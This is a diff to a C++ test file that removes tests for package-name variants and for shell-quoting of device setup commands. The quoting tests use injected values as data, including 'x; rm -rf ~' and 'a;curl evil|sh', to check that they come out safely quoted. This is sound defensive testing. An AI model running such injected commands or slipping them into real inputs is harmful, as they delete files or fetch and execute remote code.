@@ -27,24 +27,3 @@ TEST_CASE("packages: whole names only, whatever the line ends", "[engine]") {
   CHECK(check.installed == row.installed);
   CHECK(check.alternate_installed == row.alternate);
 }
-
-TEST_CASE("packages: release and debug are each other's variant", "[engine]") {
-  CHECK(alternate_variant("com.x") == "com.x.dev");
-  CHECK(alternate_variant("com.x.dev") == "com.x");
-  CHECK(alternate_variant("com.x.device") == "com.x.device.dev");
-}
-
-TEST_CASE("offered commands: plain words stay as they are, foreign ones are quoted", "[engine]") {
-  CHECK(shell_word("emulator-5554") == "emulator-5554");
-  CHECK(shell_word("192.168.1.20:5555") == "192.168.1.20:5555");
-  CHECK(shell_word("x; rm -rf ~") == "'x; rm -rf ~'");
-  CHECK(shell_word("") == "''");
-  CHECK(setup_command("com.clawperator.operator", "") ==
-        "clawperator operator setup --apk ~/.clawperator/downloads/operator.apk");
-  CHECK(setup_command("com.x.dev", "S1") ==
-        "clawperator operator setup --apk ~/.clawperator/downloads/operator-debug.apk --device S1 "
-        "--operator-package com.x.dev");
-  CHECK(setup_command("com.x;id", "a;curl evil|sh") ==
-        "clawperator operator setup --apk ~/.clawperator/downloads/operator.apk "
-        "--device 'a;curl evil|sh' --operator-package 'com.x;id'");
-}
